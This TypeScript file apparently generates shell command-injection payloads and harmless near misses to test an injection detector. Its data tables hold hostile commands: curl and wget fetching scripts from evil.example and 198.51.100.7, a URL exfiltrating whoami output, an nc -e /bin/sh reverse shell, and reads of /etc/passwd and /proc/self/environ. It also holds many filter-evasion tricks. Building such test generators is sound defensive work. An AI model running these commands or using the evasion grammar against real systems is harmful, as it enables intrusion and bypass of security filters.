/**
 * Makes command injections and near misses from a grammar of the POSIX shell and of bash (POSIX.1-2024 XCU §2; Bash
 * manual §3): what opens a command position, how a program's name can be written so that no letter stands beside the
 * next, what stands for white space, and what keeps the rest of the command line quiet. What it makes need not be an
 * attack: the judge says.
 */
import { chance, pick, type Random } from "../../bench/random.ts";

const BARE = ["id", "whoami", "ls", "ps", "uname", "hostname", "ifconfig", "netstat"];
const TAKING: Readonly<Record<string, readonly string[]>> = {
  cat: ["/etc/passwd", "/etc/hosts", "../../etc/passwd", "/proc/self/environ", "/e?c/p?sswd", "/etc/pass*"],
  ls: ["-la", "/tmp", "-l /etc", "/"],
  uname: ["-a"],
  ps: ["aux", "-ef"],
  ping: ["-c 3 127.0.0.1", "-n 5 localhost", "-c1 evil.example"],
  curl: ["http://evil.example/x", "-s http://198.51.100.7/a.sh", "evil.example/$(whoami)"],
  wget: ["http://evil.example/x -O /tmp/x", "-q http://198.51.100.7/x"],
  nc: ["-e /bin/sh 198.51.100.7 4444", "198.51.100.7 80"],
  sleep: ["5", "10"],
  netstat: ["-an"],
  python3: ["-c 'import os'", "/tmp/x.py"],
  perl: ["-e 'print 1'"],
  sh: ["-c id", "/tmp/x.sh"],
  bash: ["-c id", "-i"],
  touch: ["/tmp/owned"],
  awk: ["'BEGIN{system(\"id\")}'"],
};
const QUIET = ["", "", "", "#", " #", ";", "|", " ||", "&", ";#", "\n", " 2>&1"];

/** The name with something between its letters that a shell takes out again. */
function hideName(random: Random, name: string): string {
  const cut = 1 + random(name.length - 1);
  const [head, tail] = [name.slice(0, cut), name.slice(cut)];
  const hex = [...name].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join("");
  const octal = [...name].map((c) => `\\${c.charCodeAt(0).toString(8).padStart(3, "0")}`).join("");
  return pick(random, [
    `${head}''${tail}`,
    `${head}""${tail}`,
    `'${head}'${tail}`,
    `"${name}"`,
    `${head}"${tail}"`,
    `${head}\\${tail}`,
    `\\${name}`,
    `${head}$@${tail}`,
    `${head}$*${tail}`,
    `${head}$\{x}${tail}`,
    `${head}$u${random(2) ? "''" : '""'}${tail}`,
    `${head}\`\`${tail}`,
    `${head}$()${tail}`,
    `$'${hex}'`,
    `$'${octal}'`,
    `/bin/${name}`,
    `/???/${name[0]}${"?".repeat(name.length - 1)}`,
    `/b?n/${head}*`,
    `/bin/[${name[0]}]${name.slice(1)}`,
    `$\{PATH:0:1}bin$\{PATH:0:1}${name}`,
    `$(echo ${name})`,
    `\`echo ${name}\``,
    `$(printf '${octal}')`,
    `{${name},}`,
  ]);
}

function space(random: Random): string {
  return chance(random, 0.6) ? " " : pick(random, ["\t", "$IFS", "${IFS}", "$IFS$9", "  ", "${IFS%??}", "${IFS:0:1}"]);
}

/** A simple command. */
function simpleCommand(random: Random): string {
  const taking = chance(random, 0.6);
  const name = pick(random, taking ? Object.keys(TAKING) : BARE);
  const args = taking ? pick(random, TAKING[name] ?? [""]) : "";
  if (taking && chance(random, 0.07)) return `{${name},${args.replaceAll(" ", ",")}}`;
  if (taking && chance(random, 0.05) && args.startsWith("/")) return `${name}<${args}`;
  const written = chance(random, 0.55) ? name : hideName(random, name);
  return taking ? `${written}${args.replace(/^|(?<!'[^']*) /g, () => space(random))}` : written;
}

/** A command, simple or inside what else runs one. */
function command(random: Random): string {
  const inner = simpleCommand(random);
  if (chance(random, 0.72)) return inner;
  const encoded = Buffer.from(inner, "latin1").toString("base64");
  return pick(random, [
    `a=1 ${inner}`,
    `env ${inner}`,
    `command ${inner}`,
    `exec ${inner}`,
    `eval ${inner}`,
    `eval "${inner.replaceAll('"', '\\"')}"`,
    `time ${inner}`,
    `! ${inner}`,
    `(${inner})`,
    `{ ${inner};}`,
    `if ${inner};then :;fi`,
    `for i in 1;do ${inner};done`,
    `while ${inner};do break;done`,
    `case x in x) ${inner};;esac`,
    `a="${inner.replaceAll('"', '\\"')}";$a`,
    `f(){ ${inner};};f`,
    `2>/dev/null ${inner}`,
    `</etc/passwd ${inner}`,
    `echo ${encoded}|base64 -d|sh`,
    `sh<<<"${inner.replaceAll('"', '\\"')}"`,
    `echo $(${inner})`,
    `echo \`${inner}\``,
    `cat <(${inner})`,
    `x=$(${inner})`,
  ]);
}

/** Makes a value that should start a program. */
export function makeAttack(random: Random): string {
  const run = command(random);
  const lead = pick(random, [
    "",
    "",
    "x",
    "1",
    "127.0.0.1",
    "a.txt",
    "report",
    "x'",
    'x"',
    "'",
    '"',
    "John",
    "j.doe@shop.example",
  ]);
  const quiet = pick(random, QUIET);
  const quote = /['"]$/.exec(lead)?.[0] ?? "";
  const closing = quote === "" ? quiet : pick(random, [quiet, `;${quote}`, ` ${quote}`, `;echo ${quote}`]);
  const gap = chance(random, 0.4) ? " " : "";
  switch (random(8)) {
    case 0:
      return `${lead}$(${run})`;
    case 1:
      return `${lead}\`${run.replaceAll("`", "\\`")}\``;
    case 2:
      return `${lead}\n${run}${closing}`;
    case 3:
      return `${lead}${gap}||${gap}${run}${closing}`;
    case 4:
      return `${lead}${gap}&&${gap}${run}${closing}`;
    default:
      return `${lead}${gap}${pick(random, [";", "|", "&"])}${gap}${run}${closing}`;
  }
}

/**
 * A program's name that is also a word, alone behind a word and a separator: `name|id`, `a.txt;ls`. Lists look the same
 * whoever wrote them, so such values are no attacks for the detector either way.
 */
export function isList(value: string): boolean {
  return /^(?=[^;|&\n]*[A-Za-z])[\w.@-]+['"]? ?(?:[;|&\n]|\|\||&&) ?["']?(?:id|ls|ps|hostname)["']?[^\w]*$/.test(value);
}

/** Makes another attack of an attack: hides what is in plain sight, or sets it into other surroundings. */
export function mutateAttack(random: Random, value: string): string {
  return pick(random, [
    () =>
      value.replace(/\b(?:id|whoami|cat|ls|uname|ping|curl|wget|sleep|netstat|ifconfig)\b/, (name) =>
        hideName(random, name),
      ),
    () => value.replace(/ (?=[-/\w])/, () => space(random)),
    () => value.replace(/[;|&\n]/, () => pick(random, [";", "|", "&", "\n", "||", "&&", ";:;", ";;"])),
    () => `${pick(random, ["q", "report 7", "a,b", "x=1", "[1]", "<b>", "50%", "a:b"])}${value}`,
    () => `${value}${pick(random, QUIET)}`,
    () => value.replace(/;/, "; true;"),
    () => value.replace(/([;|&]) ?(\w.*)$/s, (_, mark: string, rest: string) => `${mark}(${rest})`),
    () => value.replace(/ /g, "  "),
    () => value.replace(/([;|&])/, "$1 \t"),
    () => value.replace(/([;|&])/, "\n$1"),
  ])();
}

const WORDS =
  "the new cat shows who sorts more dogs find time at home price date of type id name list state free last".split(" ");
const MARKS = ["; ", " & ", " | ", ", ", ". ", " - ", " / ", " && ", " || ", ";", "|", ": "];

/** Makes a value of the same characters and words that nobody wrote as a command. */
export function makeNearMiss(random: Random): string {
  const word = (): string => pick(random, WORDS);
  const sentence = (): string => Array.from({ length: 2 + random(4) }, word).join(" ");
  const name = (): string => pick(random, ["price", "user_id", "totalSum", "page2", "state"]);
  return pick(random, [
    () => `${sentence()}${pick(random, MARKS)}${sentence()}`,
    () => `${sentence()} (${sentence()}); ${sentence()}.`,
    () => `$\{${name()}} of $\{${name()}}`,
    () => `$(${pick(random, ["document", "this", "window", "'#list'"])}).ready`,
    () => `Use \`${name()}\` instead of \`${name()}\` here`,
    () => `${name()}=${random(100)};${name()}=${random(100)};${name()}`,
    () => `${name()},${random(9)},"${sentence()}"|${name()}`,
    () => `C:\\Users\\ada\\${word()}\\${word()}.txt`,
    () => `US$${random(100)} & more; ${sentence()}`,
    () => `${word()}&nbsp;${word()}&amp;${word()}`,
    () => `${name()} > ${random(9)} && ${name()} < ${random(99)}`,
    () => `text/html;q=0.${random(9)},*/*;q=0.${random(9)}`,
    () => `~/${word()}/${name()} & ~/.${word()}/config`,
    () => `${sentence()}\n${sentence()}; ${sentence()}\n`,
  ])();
}
